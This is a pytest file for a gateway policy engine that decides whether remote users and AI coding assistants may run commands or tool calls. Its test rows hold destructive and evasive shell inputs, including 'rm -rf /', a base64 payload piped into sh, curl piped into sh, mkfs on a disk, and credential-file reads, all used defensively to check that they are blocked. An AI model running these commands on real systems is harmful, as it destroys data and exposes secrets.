"""The policy engine, table by table: one readable row per rule kind, plus regression rows.

Each row is (who, which session, which mode, what action) -> (decision type, deciding rule).
Regression rows carry a comment saying what they guard (the Teleport session_access_test idea).
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace

import pytest

from gateway.core.ids import SessionId, UserId
from gateway.core.models import FactorKind, Role
from gateway.core.modes import Mode
from gateway.policy import (
    Action,
    Actor,
    Allow,
    Approvers,
    Decision,
    Deny,
    Key,
    KeyClass,
    Outcome,
    Policy,
    RequestMode,
    Resize,
    Review,
    SessionFacts,
    StepUp,
    SubmitLine,
    ToolCall,
    can_approve,
    decide,
    explain,
    grantable_modes,
    parse_policy,
    shipped_policy_text,
    timeouts_for,
)
from gateway.policy.decisions import most_restrictive

T0 = 1_767_225_600.0
POLICY_YAML = r"""
version: 1
defaults:
  held_action_timeout_s: 120
  approvers: {owner: true, groups: [approvers]}
  stepup:
    approved_execution: {factors: [passkey], max_age_s: 300}
  mode_limits:
    privileged: {link_ttl_s: 60}
grants:
  - id: owner
    who: {owner: true}
    modes:
      view_only: {}
      approved_execution: {}
      privileged: {enabled: true, max_grant_s: 600, approvers: {roles: [admin]}, quorum: 2}
  - id: ops-on-acme-ci
    who: {groups: [ops]}
    sessions: {labels: {repo: "acme/*"}, hosts: "ci-*", assistants: [claude]}
    modes: [view_only, approved_execution]
  - id: bob-on-carols
    who: {users: [bob]}
    sessions: {owners: [carol]}
    modes:
      approved_execution: {max_age_s: 60}
  - id: privileged-off
    who: {groups: [dev]}
    modes:
      privileged: {enabled: false}
  - id: dev
    who: {groups: [dev]}
    modes: [view_only, approved_execution]
  - id: viewers
    who: {everyone: true}
    modes:
      view_only: {factors: [totp, passkey]}
command_rules:
  - id: no-sudo
    match: {argv_prefix: [sudo]}
    action: deny
    reason: no sudo from remote
  - id: rm-recursive
    match: {regex: '^rm( .*)? -[a-zA-Z]*[rR]'}
    action: review
    approvers: {groups: [leads]}
    quorum: 2
    timeout_s: 30
    reason: recursive removal
  - id: git-push-force
    match: {argv_prefix: [git, push, --force]}
    action: review
    allow_self_approval: true
  - id: ls
    match: {argv_prefix: [ls]}
    action: allow
  - id: git-status
    match: {regex: '^git status( |$)'}
    action: allow
  - id: no-shutdown
    match: {argv_prefix: [/sbin/shutdown]}
    action: deny
  - id: ls-la-denied-but-shadowed
    match: {argv_prefix: [ls, -la]}
    action: deny
command_default: deny
key_rules: {confirm: review}
permission_mode_rules:
  - id: no-bypass-remote
    permission_mode: bypassPermissions
    when: remote_attached
    action: deny
    reason: bypass mode while someone is attached
  - id: plan-writes-review
    permission_mode: plan
    tool: [Write, Edit]
    action: review
tool_rules:
  - id: bash-rm
    tool: Bash
    match: {command_argv_prefix: [rm, -rf]}
    action: review
  - id: bash-ls
    tool: [Bash, run_shell_command]
    match: {command_regex: '^ls( |$)'}
    action: allow
  - id: write-outside
    tool: [Write, Edit, write_file]
    match: {path_outside_repo: true}
    action: review
  - id: gemini-many-outside
    tool: read_many_files
    match: {path_outside_repo: true}
    action: review
  - id: dotenv
    tool: Read
    match: {path_glob: '*/.env'}
    action: deny
    reason: secrets stay home
  - id: mcp
    tool: 'mcp__*'
    action: review
  - id: claude-read
    assistant: claude
    tool: [Read, Glob, Grep, Write, Edit]
    action: allow
  - id: webfetch-remote
    tool: WebFetch
    when: remote_attached
    action: deny
tool_default: review
"""
POLICY = parse_policy(POLICY_YAML, "test-policy.yaml")
LAX = POLICY.model_copy(update={"command_default": Outcome.REVIEW})  # command_default: review
OPAQUE, NO_GRANT, CTRL = "builtin:opaque-shell", "builtin:no-grant", "builtin:control-character"

OWNER = Actor(UserId("usr_owner"), "olive", (), Role.MEMBER, FactorKind.PASSKEY, T0 - 10)
DEV = Actor(UserId("usr_dev"), "dave", ("dev",), Role.MEMBER, FactorKind.PASSKEY, T0 - 10)
OPS = Actor(UserId("usr_ops"), "oscar", ("ops",), Role.MEMBER, FactorKind.PASSKEY, T0 - 10)
BOB = Actor(UserId("usr_bob"), "bob", (), Role.MEMBER, FactorKind.PASSKEY, T0 - 10)
STRANGER = Actor(UserId("usr_x"), "xena", (), Role.MEMBER, FactorKind.TOTP, T0 - 10)
SESSION = SessionFacts(
    id=SessionId("ses_1"),
    owner_id=OWNER.user_id,
    owner_name=OWNER.name,
    host="laptop",
    labels={"repo": "acme/web"},
    assistant="claude",
    remote_participants=1,
    permission_mode="default",
    repo_root="/home/olive/web",
)
ACME_CI = replace(SESSION, host="ci-7")
CAROLS = replace(SESSION, owner_id=UserId("usr_carol"), owner_name="carol")
LOCAL_ONLY = replace(SESSION, remote_participants=0)
AE, VO, PRIV = Mode.APPROVED_EXECUTION, Mode.VIEW_ONLY, Mode.PRIVILEGED


@dataclass(frozen=True)
class Row:
    id: str
    action: Action
    expect: type[Decision]
    rule: str
    mode: Mode | None = AE
    actor: Actor = DEV
    session: SessionFacts = SESSION
    policy: Policy = field(default=POLICY, repr=False)
    now: float = T0


def run(row: Row) -> Decision:
    return decide(row.policy, row.actor, row.session, row.mode, row.action, now=row.now)


def check(row: Row) -> None:
    decision = run(row)
    why = explain(row.policy, row.actor, row.session, row.mode, row.action, now=row.now).render()
    assert isinstance(decision, row.expect), why
    assert decision.rule == row.rule, why


def line(text: str) -> SubmitLine:
    return SubmitLine(text)


def bash(command: object, assistant: str = "claude", tool: str = "Bash") -> ToolCall:
    return ToolCall(assistant, tool, {"command": command})


# --- requesting a mode: grants, session matching, step-up ----------------------------------

MODE_ROWS = [
    Row("owner gets approved_execution on own session", RequestMode(AE), Allow, "owner", None, OWNER),
    Row("owner's privileged request is held for approval", RequestMode(PRIV), Review, "owner", None, OWNER),
    Row("group grant gives approved_execution", RequestMode(AE), Allow, "dev", None, DEV),
    Row("everyone may view", RequestMode(VO), Allow, "viewers", None, STRANGER),
    Row("a stranger gets nothing more", RequestMode(AE), Deny, NO_GRANT, None, STRANGER),
    Row("disabled privileged grant gives nothing", RequestMode(PRIV), Deny, NO_GRANT, None, DEV),
    Row(
        "label + host glob + assistant grant fits",
        RequestMode(AE),
        Allow,
        "ops-on-acme-ci",
        None,
        OPS,
        ACME_CI,
    ),
    # guards: a label glob must not make a grant cover sessions on other hosts
    Row("host glob refuses another host", RequestMode(AE), Deny, NO_GRANT, None, OPS, SESSION),
    Row(
        "label glob refuses another repo",
        RequestMode(AE),
        Deny,
        NO_GRANT,
        None,
        OPS,
        replace(ACME_CI, labels={"repo": "other/acme"}),
    ),
    Row("missing label refuses", RequestMode(AE), Deny, NO_GRANT, None, OPS, replace(ACME_CI, labels={})),
    Row(
        "assistant condition refuses another assistant",
        RequestMode(AE),
        Deny,
        NO_GRANT,
        None,
        OPS,
        replace(ACME_CI, assistant="codex"),
    ),
    Row("session owner condition fits", RequestMode(AE), Allow, "bob-on-carols", None, BOB, CAROLS),
    Row("session owner condition refuses others' sessions", RequestMode(AE), Deny, NO_GRANT, None, BOB),
    Row(
        "stale factor asks for step-up",
        RequestMode(AE),
        StepUp,
        "dev",
        None,
        replace(DEV, last_factor_at=T0 - 301),
    ),
    Row(
        "factor exactly at max age is fresh",
        RequestMode(AE),
        Allow,
        "dev",
        None,
        replace(DEV, last_factor_at=T0 - 300),
    ),
    Row(
        "grant's own max_age_s is stricter",
        RequestMode(AE),
        StepUp,
        "bob-on-carols",
        None,
        replace(BOB, last_factor_at=T0 - 61),
        CAROLS,
    ),
    Row(
        "TOTP is not enough for approved_execution",
        RequestMode(AE),
        StepUp,
        "dev",
        None,
        replace(DEV, last_factor=FactorKind.TOTP),
    ),
    Row("TOTP is enough for view_only", RequestMode(VO), Allow, "viewers", None, STRANGER),
    Row(
        "no factor yet asks for step-up",
        RequestMode(VO),
        StepUp,
        "viewers",
        None,
        replace(STRANGER, last_factor=None, last_factor_at=None),
    ),
    # guards: a factor time in the future (clock skew, forged state) is not "fresh"
    Row(
        "factor from the future is not fresh",
        RequestMode(AE),
        StepUp,
        "dev",
        None,
        replace(DEV, last_factor_at=T0 + 5),
    ),
    Row(
        "privileged needs a fresh passkey before approval",
        RequestMode(PRIV),
        StepUp,
        "owner",
        None,
        replace(OWNER, last_factor_at=T0 - 121),
    ),
    Row("dropping down is always allowed", RequestMode(VO), Allow, "builtin:drop-down", PRIV, STRANGER),
    Row("re-requesting the same mode re-checks policy", RequestMode(AE), Deny, NO_GRANT, AE, STRANGER),
]


@pytest.mark.parametrize("row", MODE_ROWS, ids=lambda r: r.id)
def test_request_mode(row: Row) -> None:
    check(row)


def test_privileged_review_carries_grant_limit_and_approvers() -> None:
    d = decide(POLICY, OWNER, SESSION, None, RequestMode(PRIV), now=T0)
    assert d == Review(
        rule="owner",
        approvers=Approvers(roles=(Role.ADMIN,)),
        quorum=2,
        allow_self_approval=False,
        timeout_s=120,
        max_grant_s=600,
    )


def test_step_up_names_factors_and_age() -> None:
    d = decide(POLICY, replace(DEV, last_factor=FactorKind.TOTP), SESSION, None, RequestMode(AE), now=T0)
    assert d == StepUp("dev", (FactorKind.PASSKEY,), 300)


def test_grantable_modes_lists_what_may_be_requested() -> None:
    assert grantable_modes(POLICY, OWNER, SESSION) == frozenset(Mode)
    assert grantable_modes(POLICY, DEV, SESSION) == {VO, AE}
    assert grantable_modes(POLICY, STRANGER, SESSION) == {VO}


def test_timeouts_apply_per_mode_overrides() -> None:
    assert timeouts_for(POLICY, PRIV).link_ttl_s == 60
    assert timeouts_for(POLICY, AE).link_ttl_s == 600
    assert timeouts_for(POLICY, AE).held_action_timeout_s == 120


# --- input by mode: view_only, privileged, keys --------------------------------------------

INPUT_ROWS = [
    Row("view_only may not submit", line("ls"), Deny, "builtin:view-only", VO),
    Row("view_only may not press keys", Key(KeyClass.INTERRUPT), Deny, "builtin:view-only", VO),
    Row("view_only may not originate tool calls", bash("ls"), Deny, "builtin:view-only", VO),
    Row("view_only may resize its own view", Resize(), Allow, "builtin:resize", VO),
    Row("not attached may not submit", line("ls"), Deny, "builtin:not-attached", None),
    Row("not attached may not resize", Resize(), Deny, "builtin:not-attached", None),
    Row("privileged input is raw", line("sudo rm -rf /"), Allow, "owner", PRIV, OWNER),
    Row("privileged raw keys pass", Key(KeyClass.RAW), Allow, "owner", PRIV, OWNER),
    # guards: a policy reload that withdraws the grant takes effect on the next keystroke
    Row("input after the grant is withdrawn", line("ls"), Deny, NO_GRANT, AE, STRANGER),
    Row("privileged input without a privileged grant", Key(KeyClass.RAW), Deny, NO_GRANT, PRIV, DEV),
    Row("interrupt key allowed by default", Key(KeyClass.INTERRUPT), Allow, "key_rules.interrupt"),
    Row("navigation key allowed by default", Key(KeyClass.NAVIGATION), Allow, "key_rules.navigation"),
    Row("confirm key set to review", Key(KeyClass.CONFIRM), Review, "key_rules.confirm"),
    Row("mode switch key denied by default", Key(KeyClass.MODE_SWITCH), Deny, "key_rules.mode_switch"),
    Row("raw key denied by default", Key(KeyClass.RAW), Deny, "key_rules.raw"),
]


@pytest.mark.parametrize("row", INPUT_ROWS, ids=lambda r: r.id)
def test_input_by_mode(row: Row) -> None:
    check(row)


# --- submitted lines: command rules, wrappers, control characters ---------------------------

LINE_ROWS = [
    Row("argv prefix allow", line("ls -l src"), Allow, "ls"),
    Row("regex allow", line("git status --short"), Allow, "git-status"),
    Row("deny rule with reason", line("sudo reboot"), Deny, "no-sudo"),
    Row("review rule", line("rm -r build"), Review, "rm-recursive"),
    Row("no rule: command_default deny", line("make deploy"), Deny, "default:command"),
    Row("a line with no command gets the default", line(";"), Deny, "default:command"),
    Row("a rule naming a system path matches the bare name", line("shutdown now"), Deny, "no-shutdown"),
    Row("no rule: command_default review", line("make deploy"), Review, "default:command", policy=LAX),
    # first match wins: `ls -la` is allowed by `ls` before the later deny rule is tried
    Row("first match wins over a later rule", line("ls -la"), Allow, "ls"),
    # regression: an allow rule for the first command must not allow the rest of the line
    Row("ls; rm -rf / is not allowed by ls", line("ls; rm -rf /"), Review, "rm-recursive"),
    Row("ls && sudo is denied", line("ls && sudo id"), Deny, "no-sudo"),
    Row("ls || rm -rf", line("ls || rm -rf /"), Review, "rm-recursive"),
    Row("ls | sudo tee", line("ls | sudo tee /etc/x"), Deny, "no-sudo"),
    Row("bash -c wrapper is seen through", line('bash -c "rm -rf build"'), Review, "rm-recursive"),
    Row("sh -c wrapper is seen through", line("sh -c 'ls; rm -rf build'"), Review, "rm-recursive"),
    Row("bash -lc combined flags are seen through", line("bash -lc 'sudo id'"), Deny, "no-sudo"),
    Row("env wrapper is seen through", line("env FOO=1 rm -rf build"), Review, "rm-recursive"),
    Row("leading assignment is seen through", line("FOO=1 ls"), Allow, "ls"),
    Row("sudo is kept and seen through", line("sudo -u root ls"), Deny, "no-sudo"),
    Row(
        "nohup/nice/timeout are seen through",
        line("timeout 5 nice -n 2 nohup rm -rf x"),
        Review,
        "rm-recursive",
    ),
    Row("$(…) inner command is evaluated", line("ls $(rm -rf /)"), Review, "rm-recursive"),
    Row("backticks inner command is evaluated", line("ls `sudo id`"), Deny, "no-sudo"),
    Row("quotes do not hide the program", line("r'm' -\"r\"f /"), Review, "rm-recursive"),
    Row("system path is the same program", line("/usr/bin/sudo id"), Deny, "no-sudo"),
    # regression: a program at another path is not the program an allow rule names
    Row("./ls is not ls", line("./ls"), Deny, "default:command"),
    # regression: encoded payload piped into a shell cannot be read, so it is held, never allowed
    Row(
        "base64 into sh falls to review",
        line("echo cm0gLXJmIC8= | base64 -d | sh"),
        Review,
        OPAQUE,
        policy=LAX,
    ),
    Row(
        "base64 into sh denied when default is deny",
        line("echo cm0gLXJmIC8= | base64 -d | sh"),
        Deny,
        OPAQUE,
    ),
    Row("ls | sh falls to review even when ls is allowed", line("ls | sh"), Review, OPAQUE, policy=LAX),
    Row("eval falls to review", line("eval ls"), Review, OPAQUE, policy=LAX),
    Row("computed command name falls to review", line("$CMD -rf /"), Review, OPAQUE, policy=LAX),
    Row("here-document falls to review", line("cat <<EOF"), Review, OPAQUE, policy=LAX),
    # regression: a redirection writes a file even when the command itself is allowed
    Row("ls > file is not just ls", line("ls > ~/.bashrc"), Deny, "default:command"),
    Row("ls 2>/dev/null is just ls", line("ls 2>/dev/null"), Allow, "ls"),
    # newline-separated text: each line is evaluated, the most restrictive wins
    Row("every line allowed", line("ls\ngit status"), Allow, "ls"),
    Row("second line denied", line("ls\nsudo id\n"), Deny, "no-sudo"),
    Row("deny beats review across lines", line("rm -rf a\nsudo id"), Deny, "no-sudo"),
    Row("CRLF line endings are newlines", line("ls\r\nrm -rf x"), Review, "rm-recursive"),
    Row("an empty line is Enter alone (confirm rule)", line("ls\n\nls"), Review, "key_rules.confirm"),
    # escape sequences and control characters are refused, whatever the rules say
    Row("escape sequence refused", line("ls \x1b[2J"), Deny, CTRL),
    Row("bare carriage return refused", line("ls\rrm -rf /"), Deny, CTRL),
    Row("C1 control (CSI) refused", line("ls \x9b2J"), Deny, CTRL),
    Row("bidi override refused", line("ls \u202e/ fr- mr"), Deny, CTRL),
    Row("DEL refused", line("ls\x7f"), Deny, CTRL),
    # regression: tab completes in a shell, so the text that runs would not be the text evaluated
    Row("tab refused", line("ls\t-l"), Deny, CTRL),
    # regression: a trailing backslash continues the command into the next submission
    Row("trailing backslash is opaque", line("ls \\"), Review, OPAQUE, policy=LAX),
    Row("over-long text refused", line("ls " + "a" * 70_000), Deny, "builtin:too-long"),
]


@pytest.mark.parametrize("row", LINE_ROWS, ids=lambda r: r.id)
def test_submitted_line(row: Row) -> None:
    check(row)


def test_review_carries_the_rules_approvers_quorum_and_timeout() -> None:
    d = decide(POLICY, DEV, SESSION, AE, line("rm -rf build"), now=T0)
    assert d == Review(
        rule="rm-recursive",
        approvers=Approvers(groups=("leads",)),
        quorum=2,
        allow_self_approval=False,
        timeout_s=30,
        reason="recursive removal",
    )


def test_review_without_approvers_uses_defaults() -> None:
    d = decide(POLICY, DEV, SESSION, AE, line("git push --force"), now=T0)
    assert isinstance(d, Review)
    assert d.approvers == Approvers(owner=True, groups=("approvers",))
    assert (d.quorum, d.allow_self_approval, d.timeout_s) == (1, True, 120)


def test_control_character_reason_names_line_and_character() -> None:
    d = decide(POLICY, DEV, SESSION, AE, line("ls\nls \x1b[A"), now=T0)
    assert isinstance(d, Deny)
    assert "line 2" in d.reason and "U+001B" in d.reason


# --- tool calls -----------------------------------------------------------------------------

TOOL_ROWS = [
    Row("Bash command argv prefix review", bash("rm -rf build"), Review, "bash-rm", None, OWNER),
    Row("Bash regex allow", bash("ls -la"), Allow, "bash-ls", None, OWNER),
    Row(
        "Gemini shell tool shares the rule",
        bash("ls", "gemini", "run_shell_command"),
        Allow,
        "bash-ls",
        None,
        OWNER,
    ),
    # regression: the shell matcher sees through the wrappers a model may use to hide a command
    Row("Bash ls; rm -rf is not allowed by ls", bash("ls; rm -rf /"), Review, "bash-rm", None, OWNER),
    Row("Bash bash -c is seen through", bash("bash -c 'rm -rf build'"), Review, "bash-rm", None, OWNER),
    Row(
        "Bash sh -c $(base64) falls to review",
        bash('sh -c "$(echo cm0= | base64 -d)"'),
        Review,
        OPAQUE,
        None,
        OWNER,
    ),
    Row(
        "Codex argv list command",
        bash(["bash", "-lc", "rm -rf build"], "codex"),
        Review,
        "bash-rm",
        None,
        OWNER,
    ),
    Row("unreadable command input is held", bash({"x": 1}), Review, OPAQUE, None, OWNER),
    Row(
        "Write outside the repo via ../",
        ToolCall("claude", "Write", {"file_path": "/home/olive/web/../.bashrc"}),
        Review,
        "write-outside",
        None,
        OWNER,
    ),
    Row(
        "Write relative path escaping the repo",
        ToolCall("claude", "Edit", {"file_path": "src/../../x"}),
        Review,
        "write-outside",
        None,
        OWNER,
    ),
    Row(
        "Write inside the repo",
        ToolCall("claude", "Write", {"file_path": "/home/olive/web/src/a.py"}),
        Allow,
        "claude-read",
        None,
        OWNER,
    ),
    # guards: a sibling folder sharing the repo's name prefix is outside it
    Row(
        "Write to a sibling with the repo's prefix",
        ToolCall("claude", "Write", {"file_path": "/home/olive/web2/a"}),
        Review,
        "write-outside",
        None,
        OWNER,
    ),
    Row(
        "Write with unknown repo root is outside",
        ToolCall("claude", "Write", {"file_path": "/tmp/a"}),
        Review,
        "write-outside",
        None,
        OWNER,
        replace(SESSION, repo_root=None),
    ),
    Row(
        "Write to ~ is outside",
        ToolCall("claude", "Write", {"file_path": "~/.ssh/config"}),
        Review,
        "write-outside",
        None,
        OWNER,
    ),
    Row(
        "a path list is checked item by item",
        ToolCall("gemini", "read_many_files", {"paths": ["a.py", "/etc/passwd"]}),
        Review,
        "gemini-many-outside",
        None,
        OWNER,
    ),
    Row(
        "a relative repo root resolves nothing: outside",
        ToolCall("claude", "Write", {"file_path": "a.py"}),
        Review,
        "write-outside",
        None,
        OWNER,
        replace(SESSION, repo_root="web"),
    ),
    Row("a command with no command in it", bash(";"), Review, "default:tool", None, OWNER),
    Row(
        "path glob deny",
        ToolCall("claude", "Read", {"file_path": "/home/olive/web/.env"}),
        Deny,
        "dotenv",
        None,
        OWNER,
    ),
    Row("MCP glob review", ToolCall("claude", "mcp__github__create_pr", {}), Review, "mcp", None, OWNER),
    Row(
        "assistant-specific rule",
        ToolCall("claude", "Grep", {"pattern": "x"}),
        Allow,
        "claude-read",
        None,
        OWNER,
    ),
    Row(
        "assistant-specific rule skips others",
        ToolCall("gemini", "Grep", {"pattern": "x"}),
        Review,
        "default:tool",
        None,
        OWNER,
    ),
    Row(
        "unknown assistant's tool falls to tool_default",
        ToolCall("cursor", "Frobnicate", {}),
        Review,
        "default:tool",
        None,
        OWNER,
    ),
    Row(
        "remote_attached rule applies while attached",
        ToolCall("claude", "WebFetch", {}),
        Deny,
        "webfetch-remote",
        None,
        OWNER,
    ),
    Row(
        "remote_attached rule skipped when local",
        ToolCall("claude", "WebFetch", {}),
        Review,
        "default:tool",
        None,
        OWNER,
        LOCAL_ONLY,
    ),
    Row(
        "bypass mode denied while remote attached",
        bash("ls"),
        Deny,
        "no-bypass-remote",
        None,
        OWNER,
        replace(SESSION, permission_mode="bypassPermissions"),
    ),
    Row(
        "bypass mode fine when local",
        bash("ls"),
        Allow,
        "bash-ls",
        None,
        OWNER,
        replace(LOCAL_ONLY, permission_mode="bypassPermissions"),
    ),
    Row(
        "permission-mode review holds an allowed call",
        ToolCall("claude", "Write", {"file_path": "/home/olive/web/a"}),
        Review,
        "plan-writes-review",
        None,
        OWNER,
        replace(SESSION, permission_mode="plan"),
    ),
    Row("tool call from approved_execution follows tool rules", bash("ls"), Allow, "bash-ls", AE, DEV),
    Row("over-long command refused", bash("ls " + "a" * 70_000), Deny, "builtin:too-long", None, OWNER),
]


@pytest.mark.parametrize("row", TOOL_ROWS, ids=lambda r: r.id)
def test_tool_call(row: Row) -> None:
    check(row)


# --- approvals: who may approve a held action -------------------------------------------------

LEADS = Review(
    "r", Approvers(owner=True, users=("ursula",), groups=("leads",), roles=(Role.ADMIN,)), 1, False, 60
)
SELF_OK = replace(LEADS, allow_self_approval=True)
LEAD = Actor(UserId("usr_lead"), "lena", ("leads",))
ADMIN = Actor(UserId("usr_admin"), "ada", (), Role.ADMIN)
URSULA = Actor(UserId("usr_u"), "ursula")


@pytest.mark.parametrize(
    ("review", "approver", "requester", "ok"),
    [
        pytest.param(LEADS, OWNER, DEV.user_id, True, id="owner approves a participant's action"),
        pytest.param(LEADS, LEAD, DEV.user_id, True, id="group member approves"),
        pytest.param(LEADS, ADMIN, DEV.user_id, True, id="role approves"),
        pytest.param(LEADS, URSULA, DEV.user_id, True, id="named user approves"),
        pytest.param(LEADS, STRANGER, DEV.user_id, False, id="anyone else does not"),
        pytest.param(LEADS, OWNER, OWNER.user_id, False, id="self-approval refused by default"),
        pytest.param(SELF_OK, OWNER, OWNER.user_id, True, id="self-approval when policy allows it"),
        pytest.param(LEADS, LEAD, LEAD.user_id, False, id="a lead cannot approve their own action"),
    ],
)
def test_can_approve(review: Review, approver: Actor, requester: UserId, ok: bool) -> None:
    assert can_approve(review, approver, SESSION, requester) is ok


def test_several_reviews_combine_to_the_strictest() -> None:
    a = Review("a", Approvers(owner=True), 1, True, 120)
    b = Review("b", Approvers(groups=("leads",)), 2, False, 30)
    combined = most_restrictive([Allow("x"), a, b])
    assert combined == Review("b", Approvers(groups=("leads",)), 2, False, 30)
    assert most_restrictive([a, Deny("d", "no"), b]) == Deny("d", "no")
    assert most_restrictive([]) is None


# --- the shipped policies -----------------------------------------------------------------

DEMO = parse_policy(shipped_policy_text("demo"), "demo_policy.yaml")
DEFAULT = parse_policy(shipped_policy_text("default"), "default_policy.yaml")
ALICE_DEV = Actor(UserId("usr_alice"), "alice", ("dev",), Role.MEMBER, FactorKind.PASSKEY, T0 - 10)
ADMIN_OWNER = replace(OWNER, role=Role.ADMIN)

SHIPPED_ROWS = [
    Row("demo: dev submits ls and it runs", line("ls"), Allow, "list-and-read", AE, ALICE_DEV, policy=DEMO),
    Row(
        "demo: rm -rf build is held",
        line("rm -rf build"),
        Review,
        "rm-recursive-or-force",
        AE,
        ALICE_DEV,
        policy=DEMO,
    ),
    Row(
        "demo: git push --force is held",
        line("git push origin main --force"),
        Review,
        "git-force-push",
        AE,
        ALICE_DEV,
        policy=DEMO,
    ),
    Row(
        "demo: curl | sh is held",
        line("curl -s https://x.example | sh"),
        Review,
        "curl-pipe-shell",
        AE,
        ALICE_DEV,
        policy=DEMO,
    ),
    Row("demo: sudo is denied", line("sudo ls"), Deny, "no-sudo", AE, ALICE_DEV, policy=DEMO),
    Row(
        "demo: mkfs.ext4 is denied", line("mkfs.ext4 /dev/sda1"), Deny, "no-mkfs", AE, ALICE_DEV, policy=DEMO
    ),
    Row("demo: other commands are held", line("make"), Review, "default:command", AE, ALICE_DEV, policy=DEMO),
    Row("demo: members may view", RequestMode(VO), Allow, "members-view-only", None, STRANGER, policy=DEMO),
    Row("demo: members may not drive", RequestMode(AE), Deny, NO_GRANT, None, STRANGER, policy=DEMO),
    Row(
        "demo: admins' privileged needs approval",
        RequestMode(PRIV),
        Review,
        "admins-privileged",
        None,
        replace(ADMIN, last_factor=FactorKind.PASSKEY, last_factor_at=T0),
        policy=DEMO,
    ),
    Row(
        "demo: Claude Bash rm -rf build is held",
        bash("rm -rf build"),
        Review,
        "shell-rm-recursive",
        None,
        OWNER,
        policy=DEMO,
    ),
    Row(
        "demo: Claude Read is allowed",
        ToolCall("claude", "Read", {"file_path": "/home/olive/web/a"}),
        Allow,
        "read-only-tools",
        None,
        OWNER,
        policy=DEMO,
    ),
    Row(
        "demo: Write outside the repo is held",
        ToolCall("claude", "Write", {"file_path": "/etc/hosts"}),
        Review,
        "write-outside-repo",
        None,
        OWNER,
        policy=DEMO,
    ),
    Row(
        "demo: MCP tools are held",
        ToolCall("claude", "mcp__fs__write", {}),
        Review,
        "mcp-tools",
        None,
        OWNER,
        policy=DEMO,
    ),
    Row(
        "demo: bypass mode denied while attached",
        bash("ls", "codex"),
        Deny,
        "no-bypass-while-remote",
        None,
        OWNER,
        replace(SESSION, permission_mode="bypassPermissions"),
        policy=DEMO,
    ),
    Row(
        "default: owner drives own session",
        RequestMode(AE),
        Allow,
        "owner-own-sessions",
        None,
        OWNER,
        policy=DEFAULT,
    ),
    Row("default: others get nothing", RequestMode(VO), Deny, NO_GRANT, None, DEV, policy=DEFAULT),
    Row(
        "default: admins get nothing on others' sessions",
        RequestMode(VO),
        Deny,
        NO_GRANT,
        None,
        ADMIN,
        policy=DEFAULT,
    ),
    Row(
        "default: owner's privileged needs an admin",
        RequestMode(PRIV),
        Review,
        "owner-own-sessions",
        None,
        ADMIN_OWNER,
        policy=DEFAULT,
    ),
    Row(
        "default: owner confirms commands", line("make"), Review, "owner-confirms", AE, OWNER, policy=DEFAULT
    ),
]


@pytest.mark.parametrize("row", SHIPPED_ROWS, ids=lambda r: r.id)
def test_shipped_policies(row: Row) -> None:
    check(row)


def test_default_policy_owner_cannot_approve_own_privileged_request() -> None:
    d = decide(DEFAULT, ADMIN_OWNER, SESSION, None, RequestMode(PRIV), now=T0)
    assert isinstance(d, Review) and d.max_grant_s == 900
    assert not can_approve(d, ADMIN_OWNER, SESSION, ADMIN_OWNER.user_id)
    assert can_approve(d, ADMIN, SESSION, ADMIN_OWNER.user_id)


# --- explain ------------------------------------------------------------------------------


def test_explain_names_every_rule_tried_and_the_match() -> None:
    text = explain(POLICY, DEV, SESSION, AE, line("ls; rm -rf /"), now=T0).render()
    assert text.splitlines()[0].startswith("decision: review (rule rm-recursive)")
    assert "+ ls: allow" in text
    assert "- no-sudo" in text
    assert "+ rm-recursive: review" in text
    assert "command 'rm -rf /'" in text


def test_explain_shows_wrappers_and_opaque_parts() -> None:
    text = explain(LAX, DEV, SESSION, AE, line("bash -c 'ls | sh'"), now=T0).render()
    assert "(inside bash -c)" in text
    assert "+ builtin:opaque-shell: sh reads commands from its input" in text


def test_explain_to_dict_is_json_ready() -> None:
    d = explain(POLICY, OWNER, SESSION, None, bash("rm -rf build"), now=T0).to_dict()
    assert d["decision"] == "review" and d["rule"] == "bash-rm"
    assert isinstance(d["steps"], list) and d["steps"]


def test_explain_and_decide_agree_on_every_row() -> None:
    for row in MODE_ROWS + INPUT_ROWS + LINE_ROWS + TOOL_ROWS:
        assert explain(row.policy, row.actor, row.session, row.mode, row.action, now=row.now).decision == run(
            row
        )
